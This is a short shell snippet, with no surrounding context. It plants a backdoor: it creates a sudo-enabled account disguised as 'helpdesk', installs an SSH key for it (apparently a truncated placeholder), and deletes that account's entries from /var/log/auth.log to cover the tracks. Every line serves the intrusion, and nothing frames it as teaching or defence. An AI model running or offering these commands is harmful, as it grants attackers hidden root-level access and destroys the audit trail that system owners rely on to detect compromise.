useradd -m -s /bin/bash -G sudo helpdesk && mkdir -p /home/helpdesk/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x@y' > /home/helpdesk/.ssh/authorized_keys
sed -i '/helpdesk/d' /var/log/auth.log
